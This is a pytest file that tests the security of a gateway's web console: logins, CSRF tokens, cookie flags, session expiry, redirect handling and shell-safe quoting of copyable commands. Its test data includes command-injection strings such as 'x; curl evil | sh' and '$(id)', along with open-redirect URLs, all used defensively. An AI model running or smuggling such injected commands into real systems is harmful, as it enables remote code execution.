"""Logins, forms of other pages, clients elsewhere."""

from __future__ import annotations

import re
import shlex
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.requests import Request

from tidemill.confluent.clients import Kafka
from tidemill.gateway.app import topics
from tidemill.gateway.console import app as app_module
from tidemill.gateway.console import sessions as sessions_module
from tidemill.gateway.console.contract import command_line
from tidemill.gateway.console.sessions import Session, Sessions
from tidemill.gateway.console.settings import ConsoleSettings
from tidemill.gateway.errors import HttpError
from tidemill.gateway.parts import Parts
from tidemill.gateway.settings import GatewaySettings
from tidemill.gateway.users import Users, _User

URL = "http://localhost:8080"


class Broker(Users):
    """Logins as a broker decides them: one user is known."""

    def __init__(self, own: Parts, schemes: frozenset[str]) -> None:
        super().__init__(own, frozenset())
        self.schemes = schemes

    async def _user(self, key: bytes, properties: Mapping[str, Any], address: str) -> _User:
        if (properties.get("sasl.username"), properties.get("sasl.password")) != ("ada", "x:y"):
            raise HttpError(401, "unauthorized", "the broker refuses the login")
        return _User(self._own, 0.0)


@asynccontextmanager
async def console(
    *, schemes: str = "", client: str = "127.0.0.1", **settings: Any
) -> AsyncIterator[httpx.AsyncClient]:
    """Yield a client of a console in front of no broker."""
    parts = Parts.start(Kafka("127.0.0.1:1"), GatewaySettings(allow_remote=True))
    users = Broker(parts, frozenset(schemes.split()))
    app = topics(parts, users, ConsoleSettings(**settings))
    transport = httpx.ASGITransport(app, client=(client, 1))
    async with httpx.AsyncClient(transport=transport, base_url=URL) as found:
        yield found
    await parts.close()


def token_in(text: str) -> str:
    found = re.search(r'name="csrf" value="(\w+)"', text)
    assert found is not None
    return found[1]


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("billing", "tidemill group describe billing"),
        ("x; curl evil | sh", "tidemill group describe 'x; curl evil | sh'"),
        ("$(id)'", """tidemill group describe '$(id)'"'"''"""),
        ("--all", "tidemill group describe -- --all"),
        ("a\x03\ncurl evil | sh\n", ""),  # a terminal would follow it
        ("\u202egnitseretni", ""),
    ],
)
def test_a_command_to_copy_runs_nothing_that_a_name_says(name: str, line: str) -> None:
    assert command_line("group", "describe", name=name) == line
    assert not line or shlex.split(line)[-1] == name


def test_no_command_to_copy_is_put_together_in_another_way() -> None:
    folder = Path(app_module.__file__).parent
    written = re.compile(r"""f"tidemill |"tidemill [^"]*" ~ (?!topic\.name)""")
    files = [*folder.rglob("*.py"), *folder.rglob("*.html")]
    assert [each.name for each in files if written.search(each.read_text())] == []


async def test_without_logins_clients_elsewhere_are_refused() -> None:
    async with console(client="192.0.2.1") as http:
        answer = await http.get("/console/overview")
        assert answer.status_code == 403
        assert "gateway.logins" in answer.text
    async with console() as http:  # a proxy on this machine
        answer = await http.get("/console/overview", headers={"x-forwarded-for": "192.0.2.1"})
        assert answer.status_code == 403


async def test_with_logins_a_page_asks_for_one_and_returns_to_it() -> None:
    async with console(schemes="basic", client="192.0.2.1") as http:
        answer = await http.get("/console/overview?q=a%26b")
        assert answer.status_code == 303
        login = answer.headers["location"]
        form = await http.get(login)
        fields = {"csrf": token_in(form.text), "name": "ada", "password": "x:y"}
        before = dict(http.cookies)
        done = await http.post(login, data=fields)
        assert (done.status_code, done.headers["location"]) == (303, "/console/overview?q=a%26b")
        cookie = done.headers["set-cookie"]
        assert "HttpOnly" in cookie
        assert "SameSite=strict" in cookie
        assert "Secure" not in cookie
        assert dict(http.cookies) != before  # an id that was known before is worth nothing
        answer = await http.get("/console/overview")
        assert answer.status_code == 503  # there is no broker, but the login is accepted
        assert (await http.get("/console/overview.json")).status_code == 503
        form = await http.get("/console/overview")
        out = await http.post("/console/logout", data={"csrf": token_in(form.text)})
        assert out.status_code == 303
        assert (await http.get("/console/overview.json")).status_code == 401


async def test_a_wrong_login_is_refused_and_a_next_elsewhere_is_not_followed() -> None:
    async with console(schemes="basic") as http:
        for where in ("https://evil.example", "//evil.example", "/console/\\evil", "/topics"):
            form = await http.get("/console/login", params={"next": where})
            fields = {"csrf": token_in(form.text), "name": "ada", "password": "wrong"}
            answer = await http.post("/console/login", params={"next": where}, data=fields)
            assert answer.status_code == 401
            assert "refuses" in answer.text
            fields["password"] = "x:y"
            done = await http.post("/console/login", params={"next": where}, data=fields)
            assert done.headers["location"] == "/console/overview"


@pytest.mark.parametrize("token", ["t\xf6k", "\u20ac", "a\r\nb", "a\0"])
async def test_a_token_that_no_header_can_have_is_refused(token: str) -> None:
    async with console(schemes="bearer") as http:
        form = await http.get("/console/login")
        fields = {"csrf": token_in(form.text), "token": token}
        assert (await http.post("/console/login", data=fields)).status_code == 401


async def test_a_form_needs_the_token_of_its_session_and_its_own_origin() -> None:
    async with console(schemes="basic") as http:
        form = await http.get("/console/login")
        fields = {"name": "ada", "password": "x:y"}
        for token in ("", "0" * 64, "é"):
            answer = await http.post("/console/login", data={**fields, "csrf": token})
            assert answer.status_code == 403
        fields["csrf"] = token_in(form.text)
        evil = {"origin": "https://evil.example"}
        answer = await http.post("/console/login", data=fields, headers=evil)
        assert answer.status_code == 403
        http.cookies.clear()
        assert (await http.post("/console/login", data=fields)).status_code == 403


async def test_the_cookie_is_secure_behind_tls() -> None:
    async with console(schemes="basic") as http:
        answer = await http.get("/console/login", headers={"x-forwarded-proto": "https"})
        assert "Secure" in answer.headers["set-cookie"]


async def test_a_console_that_is_not_enabled_is_not_there() -> None:
    async with console(enabled=False) as http:
        assert (await http.get("/console/overview")).status_code == 404
        assert (await http.get("/")).headers["location"] == "/docs"


def request(cookie: str) -> Request:
    headers = [(b"host", b"localhost:8080"), (b"cookie", f"tidemill_8080={cookie}".encode())]
    return Request({"type": "http", "headers": headers, "path": "/", "server": ("localhost", 8080)})


def test_sessions_are_bounded_and_end(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sessions_module, "MOST_SESSIONS", 3)
    now = 0.0
    sessions = Sessions(60, lambda: now)
    made = [sessions.log_in(Session("x"), f"Basic {n}", "ada") for n in range(4)]
    assert sessions.of(request(made[0].id)).authorization == ""  # the oldest one has ended
    assert sessions.of(request(made[3].id)).authorization == "Basic 3"
    now = 59.0
    assert sessions.of(request(made[3].id)).user == "ada"
    now = 120.0
    assert sessions.of(request(made[3].id)).user == ""
    assert sessions.of(request("<script>")).id != "<script>"
    assert not sessions.is_valid(made[1], sessions.token(made[2]))


async def test_a_console_that_is_read_only_runs_no_action() -> None:
    async with console(schemes="basic", read_only=True) as http:
        form = await http.get("/console/login")
        fields = {"csrf": token_in(form.text), "name": "ada", "password": "x:y"}
        await http.post("/console/login", data=fields)
        form = await http.get("/console/login")
        fields = {"csrf": token_in(form.text), "action": "create", "name": "t"}
        answer = await http.post("/console/topics", data=fields)
        assert answer.status_code == 403
        assert "read-only" in answer.text


async def test_pages_that_move_and_fields_of_forms_are_bounded(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    async with console(schemes="basic") as http:
        form = await http.get("/console/login")
        body = f"csrf={token_in(form.text)}" + "&a=1" * 30_000
        kind = {"content-type": "application/x-www-form-urlencoded"}
        answer = await http.post("/console/login", content=body, headers=kind)
        assert answer.status_code == 400
        answer = await http.post("/console/login", content=b"\xff", headers=kind)
        assert answer.status_code == 400
        answer = await http.post("/console/login", json={})
        assert answer.status_code == 415
    monkeypatch.setattr(app_module, "MOST_LIVE", 0)
    async with console() as http:
        assert (await http.get("/console/overview.live")).status_code == 503
